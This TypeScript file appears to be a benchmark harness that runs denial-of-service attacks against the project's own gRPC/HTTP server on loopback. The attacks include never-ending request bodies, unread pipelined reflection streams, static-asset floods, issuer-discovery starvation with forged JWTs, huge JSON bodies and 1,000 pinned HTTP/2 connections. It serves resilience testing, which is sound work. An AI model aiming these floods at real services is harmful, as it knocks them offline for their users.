/**
 * The hostile traffic of issue 21, one attack per child process, run by
 * bench/noisy-neighbour.ts while it measures a legitimate client. Every attack
 * comes from 127.0.0.2 (Linux routes all of 127/8 to loopback), so limits per
 * client address see it as another client than the measured one, as they
 * would on a network.
 *
 *   node --import tsx bench/attacks.ts <attack> <port> [json options]
 *
 * It prints READY once the attack is under way, then runs until killed.
 */
import { randomBytes } from "node:crypto";
import http from "node:http";
import http2 from "node:http2";
import net from "node:net";
import { signJwt } from "../test/support/oidc-issuer.js";

/** The attacker's own address: another client than the legitimate one. */
const FROM = "127.0.0.2";
const [name, portText, optionsText] = process.argv.slice(2);
const port = Number(portText);
const options = JSON.parse(optionsText ?? "{}") as Record<string, string>;

/** A gRPC length-prefixed message. */
function grpcMessage(payload: Buffer): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(payload.length, 1);
  return Buffer.concat([prefix, payload]);
}

/** A protobuf string field (field numbers and lengths under 128). */
function stringField(field: number, value: string): Buffer {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([(field << 3) | 2, bytes.length]), bytes]);
}

function h2(): http2.ClientHttp2Session {
  const session = http2.connect(`http://127.0.0.1:${port}`, {
    createConnection: () => net.connect({ port, host: "127.0.0.1", localAddress: FROM }),
    // The attacker never lets the server send much: answers pile up on the server's side.
    settings: name === "reflection-unread" ? { initialWindowSize: 0 } : {},
  });
  session.on("error", () => {});
  return session;
}

/** A gRPC stream to path on session (errors ignored: the attack goes on). */
function grpcStream(session: http2.ClientHttp2Session, path: string): http2.ClientHttp2Stream {
  const stream = session.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });
  stream.on("error", () => {});
  return stream;
}

const reflectionStream = (session: http2.ClientHttp2Session) =>
  grpcStream(session, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo");

/** Runs body again whenever it ends or fails, forever. */
function forever(body: () => Promise<unknown>): void {
  const again = () => void body().then(again, () => setTimeout(again, 50));
  again();
}

/** One HTTP/1.1 request from FROM, answer read and dropped; resolves with the status. */
function request(method: string, path: string, headers: Record<string, string>, body?: Buffer | string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: "127.0.0.1", port, localAddress: FROM, method, path, headers, agent: false }, (res) => {
      res.resume();
      res.on("end", () => resolve(res.statusCode ?? 0));
      res.on("error", reject);
    });
    req.on("error", reject);
    req.end(body);
  });
}

const attacks: Record<string, () => Promise<void> | void> = {
  /** Item 1: a unary gRPC-Web call whose body never ends, 1 MiB envelopes, no token, 4 at a time. */
  "grpc-web-body"() {
    const envelope = grpcMessage(Buffer.alloc(1024 * 1024 - 5));
    const one = () =>
      new Promise<void>((resolve) => {
        const req = http.request({
          host: "127.0.0.1",
          port,
          localAddress: FROM,
          agent: false,
          method: "POST",
          path: "/platformapi.iam.v2beta1.GroupsService/GetGroup",
          headers: { "content-type": "application/grpc-web+proto", "x-grpc-web": "1" },
        });
        let sent = 0;
        const pump = () => {
          while (sent < 800 && req.write(envelope)) sent++;
          if (sent >= 800) req.end();
        };
        req.on("drain", pump);
        req.on("response", (res) => {
          res.resume();
          res.on("end", resolve);
        });
        req.on("error", () => resolve());
        req.on("close", () => resolve());
        pump();
      });
    for (let i = 0; i < 4; i++) forever(one);
  },

  /** Item 2: 7-byte list_services requests pipelined on streams whose answers are never read. */
  "reflection-unread"() {
    const batch = Buffer.concat(Array.from({ length: 1000 }, () => grpcMessage(Buffer.from([0x3a, 0x00]))));
    forever(async () => {
      const session = h2();
      const stream = reflectionStream(session);
      await new Promise<void>((resolve) => {
        const pump = () => {
          while (!stream.destroyed && stream.write(batch));
        };
        stream.on("drain", pump);
        stream.on("close", resolve);
        session.on("close", resolve);
        pump();
      });
      session.destroy();
    });
  },

  /** Item 3: 42-byte file_containing_symbol requests for descriptor.proto, 1,500 a second (63 KB/s), answers read. */
  "reflection-cpu"() {
    const one = grpcMessage(stringField(4, "google.protobuf.FileDescriptorProto"));
    const batch = Buffer.concat(Array.from({ length: 150 }, () => one));
    forever(async () => {
      const session = h2();
      const stream = reflectionStream(session);
      stream.resume();
      const timer = setInterval(() => !stream.destroyed && stream.write(batch), 100);
      await new Promise((resolve) => stream.on("close", resolve));
      clearInterval(timer);
      session.destroy();
    });
  },

  /** Item 4: pipelined GETs of the largest docs asset (br and gzip), 4 connections of 75 requests each, answers read. */
  "static-flood"() {
    const get = (coding: string) => `GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\nAccept-Encoding: ${coding}\r\n\r\n`;
    const requests = Array.from({ length: 75 }, (_, i) => get(i % 2 === 0 ? "br" : "gzip")).join("");
    const one = () =>
      new Promise<void>((resolve) => {
        const socket = net.connect({ port, host: "127.0.0.1", localAddress: FROM }, () => socket.write(requests));
        socket.resume();
        socket.on("error", () => resolve());
        socket.on("close", () => resolve());
        // A connection that has answered for a while is replaced: the flood keeps arriving.
        setTimeout(() => socket.destroy(), 5000);
      });
    for (let i = 0; i < 4; i++) forever(one);
  },

  /** Item 5: exchanges naming another tenant's identity whose issuer pattern matches a host that never answers. */
  async "issuer-starve"() {
    const blackhole = net.createServer(() => {});
    await new Promise<void>((resolve) => blackhole.listen(0, "127.0.0.1", resolve));
    const hole = (blackhole.address() as net.AddressInfo).port;
    let n = 0;
    const key = randomBytes(32);
    const one = async () => {
      const iss = `http://127.0.0.1:${hole}/t${n++}`;
      const now = Math.floor(Date.now() / 1000);
      const token = signJwt(
        { alg: "HS256", typ: "JWT", kid: "k" },
        { iss, sub: "x", aud: options.audience, iat: now, exp: now + 300 },
        key,
      );
      await request("GET", `/sts/exchange?aud=${encodeURIComponent(options.audience ?? "")}&identity=${options.identity}`, {
        authorization: `Bearer ${token}`,
      });
    };
    // ~8 a second: each waits for the server's discovery to give up.
    setInterval(() => void one().catch(() => {}), 125);
  },

  /** Item 6: an identity with no role creates organizations and lists what it sees, 2 at a time. */
  "org-spam"() {
    const auth = { authorization: `Bearer ${options.token}`, "content-type": "application/json" };
    let n = 0;
    const one = async () => {
      await request("POST", "/iam/v2beta1/groups", auth, JSON.stringify({ name: `spam ${process.pid} ${n++}` }));
      await request("GET", "/iam/v2beta1/groups?page_size=50", auth);
      await request("GET", "/auth/v1/ok", auth);
    };
    for (let i = 0; i < 2; i++) forever(one);
  },

  /** Item 8: 3.4 MiB JSON bodies of 400,000 unknown keys, no token, 2 at a time. */
  "unknown-keys"() {
    const body = `{${Array.from({ length: 400_000 }, (_, i) => `"k${i}":0`).join(",")}}`;
    const one = () => request("POST", "/iam/v2beta1/groups", { "content-type": "application/json" }, body);
    for (let i = 0; i < 2; i++) forever(one);
  },

  /** Item 11: up to 1,000 HTTP/2 connections, each holding an unauthenticated Health/Watch stream. */
  async "connection-pin"() {
    const open = async () => {
      const session = h2();
      const stream = grpcStream(session, "/grpc.health.v1.Health/Watch");
      stream.resume();
      stream.end(grpcMessage(Buffer.alloc(0)));
      await new Promise((resolve) => {
        stream.on("close", resolve);
        session.on("close", resolve);
      });
      session.destroy();
    };
    for (let i = 0; i < 1000; i++) forever(open);
  },
};

const attack = attacks[name ?? ""];
if (attack === undefined || !Number.isInteger(port)) {
  process.stderr.write(`usage: attacks.ts <${Object.keys(attacks).join("|")}> <port> [json]\n`);
  process.exit(2);
}
await attack();
process.stdout.write("READY\n");
